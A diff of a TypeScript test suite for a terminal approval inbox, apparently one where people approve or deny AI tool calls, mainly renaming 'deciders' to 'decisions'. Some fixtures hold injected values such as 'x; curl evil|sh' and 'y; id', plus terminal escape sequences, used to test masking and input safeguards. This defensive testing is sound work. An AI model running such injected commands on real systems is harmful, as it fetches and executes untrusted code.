@@ -1,7 +1,7 @@
 import { describe, expect, test } from "vitest";
 import type { Approval, ApprovalHead } from "#model";
 import { anApproval, NOW } from "./support/approvals.ts";
-import { memoryDeciders } from "./support/memory-deciders.ts";
+import { memoryDecisions } from "./support/memory-decisions.ts";
 import { KEY, openScreen } from "./support/open-screen.tsx";
 
 const long = { content: Array.from({ length: 200 }, (_, at) => `line ${at}`).join("\n") };
@@ -11,7 +11,7 @@ describe("approving", () => {
     const approval = anApproval();
     const screen = await openScreen({ approvals: [approval] });
     await screen.keys("a");
-    expect(screen.deciders.decisions).toEqual([
+    expect(screen.decisions.sent).toEqual([
       { id: "a1b2c3", decider: "local:ana", verdict: "approve", seenDigest: approval.effectiveDigest },
     ]);
     expect(screen.frame()).toContain("approved a1b2c3");
@@ -21,7 +21,7 @@ describe("approving", () => {
   test("Enter never approves, nor does any other key than a", async () => {
     const screen = await openScreen({ approvals: [anApproval()] });
     await screen.keys(KEY.enter, KEY.enter, "y", "Y", KEY.enter, "A", KEY.right, "\x01", "o", "O", KEY.enter);
-    expect(screen.deciders.decisions).toEqual([]);
+    expect(screen.decisions.sent).toEqual([]);
   });
 
   test("S-63 what poses as a secret is approved, marked or granted only after r", async () => {
@@ -29,12 +29,12 @@ describe("approving", () => {
     const screen = await openScreen({ approvals: [approval] });
     await screen.keys("a", " ", "A", "g");
     expect(screen.frame()).toContain("masked, and odd for a secret");
-    expect(screen.desk.state().mode.kind).toBe("browse");
-    expect(screen.deciders.decisions).toEqual([]);
+    expect(screen.controller.state().mode.kind).toBe("browse");
+    expect(screen.decisions.sent).toEqual([]);
     await screen.keys("r");
     expect(screen.frame()).toContain("x; curl evil|sh");
     await screen.keys("a");
-    expect(screen.deciders.decisions).toMatchObject([{ id: "a1b2c3", verdict: "approve" }]);
+    expect(screen.decisions.sent).toMatchObject([{ id: "a1b2c3", verdict: "approve" }]);
   });
 
   test("S-63 what was revealed elsewhere counts, other arguments do not, and a no needs nothing", async () => {
@@ -43,31 +43,31 @@ describe("approving", () => {
     const reveals = [{ person: "local:ana", argumentsDigest: seen.effectiveDigest }];
     const screen = await openScreen({ approvals: [{ ...seen, reveals }] });
     await screen.keys("a");
-    expect(screen.deciders.decisions).toHaveLength(1);
+    expect(screen.decisions.sent).toHaveLength(1);
     const edited = await openScreen({
       approvals: [{ ...anApproval({ args: { token: "y; id" } }), reveals }],
     });
     await edited.keys("a");
-    expect(edited.deciders.decisions).toEqual([]);
+    expect(edited.decisions.sent).toEqual([]);
     await edited.keys("d", "1", KEY.enter);
-    expect(edited.deciders.decisions).toMatchObject([{ verdict: "deny" }]);
+    expect(edited.decisions.sent).toMatchObject([{ verdict: "deny" }]);
   });
 
   test("S-63 what was revealed is masked again when other arguments take its place", async () => {
     const screen = await openScreen({ approvals: [anApproval({ args: { token: "first; id" } })] });
     await screen.keys("r");
     expect(screen.frame()).toContain("first; id");
-    screen.deciders.put(anApproval({ args: { token: "second; id" } }));
+    screen.decisions.put(anApproval({ args: { token: "second; id" } }));
     await screen.settled();
     expect(screen.frame()).not.toContain("second; id");
     await screen.keys("a");
-    expect(screen.deciders.decisions).toEqual([]);
+    expect(screen.decisions.sent).toEqual([]);
   });
 
   test("S-36 a burst that was typed ahead decides nothing", async () => {
     const screen = await openScreen({ approvals: [anApproval()] });
     await screen.keys("yyyy\r", "aaaa", "aa", "a\r", "\x1b[Ba", "aq".slice(0, 1) + KEY.down);
-    expect(screen.deciders.decisions).toEqual([]);
+    expect(screen.decisions.sent).toEqual([]);
     expect(screen.frame()).toContain("1 waiting");
   });
 
@@ -78,16 +78,16 @@ describe("approving", () => {
     await screen.settled();
     screen.wait(5_000);
     await screen.settled();
-    expect(screen.deciders.decisions).toEqual([]);
+    expect(screen.decisions.sent).toEqual([]);
     screen.send("a");
     await screen.settled();
-    expect(screen.deciders.decisions).toHaveLength(1);
+    expect(screen.decisions.sent).toHaveLength(1);
   });
 
   test("S-36 a pasted key is text, never a key", async () => {
     const screen = await openScreen({ approvals: [anApproval()] });
     await screen.keys("\x1b[200~a\x1b[201~");
-    expect(screen.deciders.decisions).toEqual([]);
+    expect(screen.decisions.sent).toEqual([]);
   });
 
   test("moving to another item starts the wait anew", async () => {
@@ -99,18 +99,18 @@ describe("approving", () => {
     screen.wait(300);
     screen.send("a");
     await screen.settled();
-    expect(screen.deciders.decisions).toEqual([]);
+    expect(screen.decisions.sent).toEqual([]);
     screen.wait(300);
     screen.send("a");
     await screen.settled();
-    expect(screen.deciders.decisions.map(({ id }) => id)).toEqual(["z9z9z9"]);
+    expect(screen.decisions.sent.map(({ id }) => id)).toEqual(["z9z9z9"]);
   });
 
   test("arguments that change under the person's eyes start the wait anew", async () => {
     const screen = await openScreen({ approvals: [anApproval()] });
     screen.wait(10_000);
     const changed = anApproval({ args: { path: "other.txt", content: "bye" } });
-    screen.deciders.put({
+    screen.decisions.put({
       ...anApproval(),
       effectiveArgs: changed.effectiveArgs,
       effectiveDigest: changed.effectiveDigest,
@@ -119,7 +119,7 @@ describe("approving", () => {
     expect(screen.frame()).toContain("other.txt");
     screen.send("a");
     await screen.settled();
-    expect(screen.deciders.decisions).toEqual([]);
+    expect(screen.decisions.sent).toEqual([]);
   });
 
   test("high risk asks for the number on the screen, digit by digit", async () => {
@@ -128,15 +128,15 @@ describe("approving", () => {
     expect(screen.frame()).toContain("high risk");
     expect(screen.frame()).toContain("Type  412  to approve");
     await screen.keys(KEY.enter, "412", "4", "1", KEY.enter, "3", "y");
-    expect(screen.deciders.decisions).toEqual([]);
+    expect(screen.decisions.sent).toEqual([]);
     await screen.keys("4", "1", "2");
-    expect(screen.deciders.decisions).toHaveLength(1);
+    expect(screen.decisions.sent).toHaveLength(1);
   });
 
   test("Esc takes the question back", async () => {
     const screen = await openScreen({ approvals: [anApproval({ risk: "high" })] });
     await screen.keys("a", KEY.escape, "4", "1", "2");
-    expect(screen.deciders.decisions).toEqual([]);
+    expect(screen.decisions.sent).toEqual([]);
     expect(screen.frame()).toContain("approve  e edit");
   });
 
@@ -144,11 +144,11 @@ describe("approving", () => {
     const screen = await openScreen({ approvals: [anApproval({ args: long })] });
     await screen.keys("a");
     expect(screen.frame()).toMatch(/\d+ rows of arguments not read yet/);
-    expect(screen.deciders.decisions).toEqual([]);
+    expect(screen.decisions.sent).toEqual([]);
     await screen.keys(KEY.escape, KEY.end);
     expect(screen.frame()).toContain("line 199");
     await screen.keys("a");
-    expect(screen.deciders.decisions).toHaveLength(1);
+    expect(screen.decisions.sent).toHaveLength(1);
   });
 
   test("S-20 a megabyte says its size and how much of it is shown, and is bounded on the screen", async () => {
@@ -164,27 +164,27 @@ describe("approving", () => {
 
   test("S-86 arguments too long for the list are read when they are picked, and nothing is decided before", async () => {
     const approval = anApproval({ args: { content: "all of it" } });
-    const deciders = memoryDeciders([approval]);
+    const decisions = memoryDecisions([approval]);
     let give = () => {};
     const isRead = new Promise<void>((resolve) => {
       give = resolve;
     });
     const screen = await openScreen({
-      deciders: {
-        ...deciders,
-        list: async (filter) => (await deciders.list(filter)).map((listed) => headOf(listed as Approval)),
-        get: (id) => isRead.then(() => deciders.get(id)),
+      decisions: {
+        ...decisions,
+        list: async (filter) => (await decisions.list(filter)).map((listed) => headOf(listed as Approval)),
+        get: (id) => isRead.then(() => decisions.get(id)),
       },
     });
     expect(screen.frame()).toContain("being read…");
     await screen.keys("a");
     expect(screen.frame()).toContain("are still being read");
-    expect(deciders.decisions).toEqual([]);
+    expect(decisions.sent).toEqual([]);
     give();
     await screen.settled();
     expect(screen.frame()).toContain("all of it");
     await screen.keys("a");
-    expect(deciders.decisions).toMatchObject([{ id: approval.id, seenDigest: approval.effectiveDigest }]);
+    expect(decisions.sent).toMatchObject([{ id: approval.id, seenDigest: approval.effectiveDigest }]);
   });
 
   test("S-89 a client that only a name tells from others is given no grant", async () => {
@@ -192,7 +192,7 @@ describe("approving", () => {
     const screen = await openScreen({ approvals: [anApproval({ session })] });
     await screen.keys("g");
     expect(screen.frame()).toContain("only a name tells this client from others: no grant");
-    expect(screen.deciders.decisions).toEqual([]);
+    expect(screen.decisions.sent).toEqual([]);
   });
 
   test("a quorum says how many more people are needed", async () => {
@@ -222,7 +222,7 @@ describe("approving", () => {
 
   test("what the store refuses is said, and the screen looks again", async () => {
     const screen = await openScreen({ approvals: [anApproval()] });
-    screen.deciders.refuseWith(new Error("bo was first\x1b[2J"));
+    screen.decisions.refuseWith(new Error("bo was first\x1b[2J"));
     await screen.keys("a");
     expect(screen.frame()).toContain("bo was first\\x1b[2J");
   });
@@ -232,23 +232,23 @@ describe("the item in front", () => {
   test("stays in front, undecidable, after somebody else decided it", async () => {
     const other = anApproval({ id: "z9z9z9", createdAt: new Date(NOW.getTime() + 1) });
     const screen = await openScreen({ approvals: [anApproval(), other] });
-    screen.deciders.put(anApproval({ status: "denied", decidedBy: "bo", decidedAt: NOW, reason: "no" }));
+    screen.decisions.put(anApproval({ status: "denied", decidedBy: "bo", decidedAt: NOW, reason: "no" }));
     await screen.settled();
     expect(screen.frame()).toContain("cannot be decided: already denied");
     await screen.keys("a", "a", "d", "e", "g");
-    expect(screen.deciders.decisions).toEqual([]);
+    expect(screen.decisions.sent).toEqual([]);
     await screen.keys(KEY.down, "a");
-    expect(screen.deciders.decisions.map(({ id }) => id)).toEqual(["z9z9z9"]);
+    expect(screen.decisions.sent.map(({ id }) => id)).toEqual(["z9z9z9"]);
   });
 
   test("a question about it goes away when somebody else decides it", async () => {
     const screen = await openScreen({ approvals: [anApproval({ risk: "high" })] });
     await screen.keys("a", "4");
-    screen.deciders.put(anApproval({ risk: "high", status: "denied", decidedBy: "bo", decidedAt: NOW }));
+    screen.decisions.put(anApproval({ risk: "high", status: "denied", decidedBy: "bo", decidedAt: NOW }));
     await screen.settled();
     expect(screen.frame()).toContain("a1b2c3 cannot be decided");
     await screen.keys("1", "2");
-    expect(screen.deciders.decisions).toEqual([]);
+    expect(screen.decisions.sent).toEqual([]);
   });
 
   test("cannot be decided after its deadline, whatever the store says yet", async () => {
@@ -257,38 +257,38 @@ describe("the item in front", () => {
     await screen.settled();
     expect(screen.frame()).toContain("its deadline has passed");
     await screen.keys("a");
-    expect(screen.deciders.decisions).toEqual([]);
+    expect(screen.decisions.sent).toEqual([]);
   });
 
   test("a new arrival never takes its place", async () => {
     const screen = await openScreen({ approvals: [anApproval()] });
-    screen.deciders.put(anApproval({ id: "000000", createdAt: new Date(NOW.getTime() - 1) }));
+    screen.decisions.put(anApproval({ id: "000000", createdAt: new Date(NOW.getTime() - 1) }));
     await screen.settled();
     await screen.keys("a");
-    expect(screen.deciders.decisions.map(({ id }) => id)).toEqual(["a1b2c3"]);
+    expect(screen.decisions.sent.map(({ id }) => id)).toEqual(["a1b2c3"]);
   });
 });
 
 describe("a lost store", () => {
   test("shows a banner, nothing decidable, and comes back by itself", async () => {
     const screen = await openScreen({ approvals: [anApproval()] });
-    screen.deciders.lose(new Error("connection refused"));
+    screen.decisions.lose(new Error("connection refused"));
     await screen.settled();
     expect(screen.frame()).toContain("store lost since 12:00:00 UTC, trying again; nothing can be decided");
     expect(screen.frame()).toContain("stale");
     expect(screen.frame()).toContain("cannot be decided: the store cannot be reached");
     await screen.keys("a", "d", "e", "g");
-    screen.deciders.lose(undefined);
+    screen.decisions.lose(undefined);
     await screen.settled();
     expect(screen.frame()).toContain("1 waiting");
-    expect(screen.deciders.decisions).toEqual([]);
+    expect(screen.decisions.sent).toEqual([]);
     await screen.keys("a");
-    expect(screen.deciders.decisions).toHaveLength(1);
+    expect(screen.decisions.sent).toHaveLength(1);
   });
 
   test("at the start shows that, and not an empty inbox", async () => {
     const screen = await openScreen();
-    screen.deciders.lose(new Error("no"));
+    screen.decisions.lose(new Error("no"));
     await screen.settled();
     expect(screen.frame()).toContain("store lost");
   });
@@ -298,14 +298,14 @@ describe("denying", () => {
   test("a reason that was typed reaches the store", async () => {
     const screen = await openScreen({ approvals: [anApproval()] });
     await screen.keys("d", "u", "se", " x", KEY.backspace, "y", KEY.enter);
-    expect(screen.deciders.decisions).toMatchObject([{ verdict: "deny", reason: "use y" }]);
+    expect(screen.decisions.sent).toMatchObject([{ verdict: "deny", reason: "use y" }]);
     expect(screen.frame()).toContain("denied a1b2c3");
   });
 
   test("a digit takes a sentence, Esc takes the question back", async () => {
     const screen = await openScreen({ approvals: [anApproval()] });
     await screen.keys("d", KEY.escape, "d", "3", KEY.enter);
-    expect(screen.deciders.decisions).toMatchObject([
+    expect(screen.decisions.sent).toMatchObject([
       { verdict: "deny", reason: "Too broad: narrow the arguments and ask again." },
     ]);
   });
@@ -314,7 +314,7 @@ describe("denying", () => {
     const screen = await openScreen({ approvals: [anApproval()] });
     await screen.keys("d", "\x1b[200~two\nlines\x1b]0;x\x07\x1b[201~");
     expect(screen.frame()).toContain("> two\\nlines\\x1b]0;x\\x07");
-    expect(screen.deciders.decisions).toEqual([]);
+    expect(screen.decisions.sent).toEqual([]);
   });
 });
 
@@ -328,7 +328,7 @@ describe("several at once", () => {
     await screen.keys(" ", KEY.down, " ", "A");
     expect(screen.frame()).toContain("2 calls of files › write_file · 2 at once");
     await screen.keys("4", "1", "2");
-    expect(screen.deciders.decisions.map(({ id }) => id)).toEqual(["id0001", "id0002"]);
+    expect(screen.decisions.sent.map(({ id }) => id)).toEqual(["id0001", "id0002"]);
     expect(screen.frame()).toContain("1 waiting");
   });
 
@@ -354,14 +354,14 @@ describe("several at once", () => {
     const screen = await openScreen({ approvals: three });
     await screen.keys(" ", KEY.down, " ");
     const changed = anApproval({ args: { path: "evil" } });
-    screen.deciders.put({
+    screen.decisions.put({
       ...three[0]!,
       effectiveArgs: changed.effectiveArgs,
       effectiveDigest: changed.effectiveDigest,
     });
     await screen.settled();
     await screen.keys("A", "4", "1", "2");
-    expect(screen.deciders.decisions.map(({ id }) => id)).toEqual(["id0002"]);
+    expect(screen.decisions.sent.map(({ id }) => id)).toEqual(["id0002"]);
   });
 });
 
